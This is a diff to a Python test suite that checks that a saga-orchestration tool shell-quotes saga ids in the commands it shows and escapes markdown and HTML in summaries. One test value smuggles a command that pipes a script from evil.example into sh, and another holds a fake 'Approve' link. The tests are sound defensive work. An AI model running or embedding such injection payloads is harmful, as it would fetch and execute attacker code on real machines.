@@ -4,8 +4,10 @@ them say."""
 
 from __future__ import annotations
 
+import html as html_lib
 import json
 import re
+import shlex
 
 import pytest
 from markdown_it import MarkdownIt
@@ -128,7 +130,19 @@ def test_invisible_and_bidi_characters_are_shown_as_escapes() -> None:
 def test_commands_stay_literal_whatever_the_saga_id() -> None:
     assert md_code("a`b") == "`` a`b ``"
     html = _html(saga_details(saga_id="x`y *z*", status="NEEDS_HUMAN", steps=[], dirty=[{}]))
-    assert "<code>sagacity resolve x`y *z* STEP --happened</code>" in html
+    assert "<code>sagacity resolve 'x`y *z*' STEP --happened</code>" in html
+    # A saga id is one shell word in every command a person may paste.
+    injected = "ok; curl -s http://evil.example/p | sh #"
+    pending = _pending(PAYLOAD)
+    for details in (
+        saga_details(saga_id=injected, status="AWAITING_APPROVAL", steps=[], pending=pending),
+        saga_details(saga_id=injected, status="NEEDS_HUMAN", steps=[], dirty=[{}]),
+    ):
+        shown = re.findall(r"<code>(sagacity [^<]*)</code>", _html(details))
+        commands = [c for c in shown if c != "sagacity dirty"]
+        assert commands and all(
+            shlex.split(html_lib.unescape(c))[2] == injected for c in commands
+        ), commands
 
 
 def test_long_values_are_cut_visibly_and_old_steps_counted() -> None:
@@ -148,12 +162,16 @@ def test_long_values_are_cut_visibly_and_old_steps_counted() -> None:
 
 
 def test_the_start_summary_says_what_the_saga_was_asked_to_do() -> None:
-    assert start_summary(["reserve_inventory", "charge_card"], None) == (
-        "saga: plan of 2 step(s): reserve_inventory → charge_card"
+    assert _html(start_summary(["reserve_inventory", "charge_card"], None)) == (
+        "<p>saga: plan of 2 step(s): <code>reserve_inventory → charge_card</code></p>\n"
     )
-    assert start_summary(None, "order  two\nwidgets") == "saga: goal: order two widgets"
+    assert start_summary(None, "order  two\nwidgets") == "saga: goal: `order two widgets`"
     long = start_summary(["t\u202e"] * 100, None)
-    assert len(long) < 260 and long.endswith("…") and "\u202e" not in long
+    assert len(long) < 260 and long.endswith("…`") and "\u202e" not in long
+    hostile = "[Approve](http://evil.example/) <b>now</b> http://evil.example/x **b**"
+    for summary in (start_summary(None, hostile), start_summary([hostile], None)):
+        html = _html(summary)
+        assert "<a " not in html and "<b>" not in html and "<strong>" not in html, html
 
 
 def test_the_start_details_list_the_plan_escaped() -> None:
